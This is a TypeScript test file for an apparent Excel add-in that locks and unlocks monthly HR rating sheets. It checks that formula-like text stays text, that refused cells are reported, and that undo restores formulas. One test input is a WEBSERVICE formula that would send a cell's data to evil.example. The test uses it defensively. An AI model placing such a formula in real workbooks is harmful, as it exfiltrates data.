import { closePeriod } from '../../../src/app/month/closePeriod';
import { reopenPeriod } from '../../../src/app/month/reopenPeriod';
import { applyFill } from '../../../src/app/list/fill';
import { planInsertion } from '../../../src/app/workbook/insertText';
import { monthWorld, need, type MonthWorld } from '../monthWorld';
import { tapOf } from '../../faults/tap';

/** What people typed as text stays text, however much it looks like a formula, and one cell does not stop the others. */

let world: MonthWorld;
beforeEach(async () => {
  world = await monthWorld();
  await world.build('2026-11');
  for (const card of await world.cards('2026-11')) await world.rate(card, 76);
});
afterEach(() => world.close());

const CLOSING = { closedOn: '2026-12-01' };
const REOPENING = { period: '2026-11', reopenedOn: '2026-12-03' };

/** Writes a text into a cell of a card as HR would, with an apostrophe in front, and past the protection. */
const typeText = (sheet: string, address: string, text: string): Promise<void> =>
  world.run(async (context) => {
    const { protection } = context.workbook.worksheets.getItem(sheet);
    protection.unprotect();
    context.workbook.worksheets.getItem(sheet).getRange(address).values = [[`'${text}`]];
    protection.protect();
    await context.sync();
  });

const cell = (sheet: string, address: string): Promise<unknown[]> =>
  world.run(async (context) => {
    const range = context.workbook.worksheets.getItem(sheet).getRange(address);
    range.load('formulas,values');
    await context.sync();
    return [range.formulas[0]?.[0], range.values[0]?.[0]];
  });

test.each([
  ['in a comment', 'E27', '=好样的，继续保持'],
  ['that would call out', 'K2', '=WEBSERVICE("http://evil.example/?d="&C3)'],
  ['that looks frozen', 'E27', '=IF(TRUE,1,A1)'],
])('a text %s is closed and opened again', async (_, address, text) => {
  await typeText('郑好', address, text);
  expect(await cell('郑好', address)).toEqual([text, text]);
  expect(need(await closePeriod(world.services, CLOSING))).toMatchObject({ locked: 3, stoppedBy: null });
  expect(await cell('郑好', address)).toEqual([text, text]);
  expect(need(await reopenPeriod(world.services, REOPENING))).toMatchObject({ unlocked: 3, stoppedBy: null });
  expect(await cell('郑好', address)).toEqual([text, text]);
});

test('a cell that Excel refuses is named; its card and all others are closed', async () => {
  const id = await world.run(async (context) => {
    const sheet = context.workbook.worksheets.getItem('郑好');
    sheet.load('id');
    await context.sync();
    return sheet.id;
  });
  const isRefused = (body: string): boolean =>
    body.includes('IF(TRUE,') && body.includes(JSON.stringify(id).slice(1, -1));
  const untap = tapOf(world.book, (body) => (isRefused(body) ? 'InvalidArgument' : null));
  const report = need(await closePeriod(world.services, CLOSING));
  untap();
  expect(report).toMatchObject({ locked: 3, stoppedBy: null });
  expect(report.refusedCells?.length).toBeGreaterThan(0);
  expect(new Set(report.refusedCells?.map(({ sheet }) => sheet))).toEqual(new Set(['郑好']));
  const states = await world.run(async (context) => {
    const sheets = ['吴晓晓', '郑好', '杨柳'].map((name) => context.workbook.worksheets.getItem(name));
    for (const sheet of sheets) sheet.protection.load('protected');
    await context.sync();
    return sheets.map((sheet) => sheet.protection.protected);
  });
  expect(states).toEqual([true, true, true]);
});

test('undoing an insertion gives a formula back as a formula', async () => {
  await world.run(async (context) => {
    const range = context.workbook.worksheets.add('算').getRange('A1');
    range.formulas = [['=SUM(A5:A9)']];
    range.worksheet.activate();
    range.select();
    await context.sync();
  });
  const insertion = need(await planInsertion('职责'));
  const { undo } = need(await applyFill(insertion.plan));
  expect(await cell('算', 'A1')).toEqual(['职责', '职责']);
  expect(need(await applyFill(undo)).filled).toHaveLength(1);
  expect(await cell('算', 'A1')).toEqual(['=SUM(A5:A9)', 0]);
});
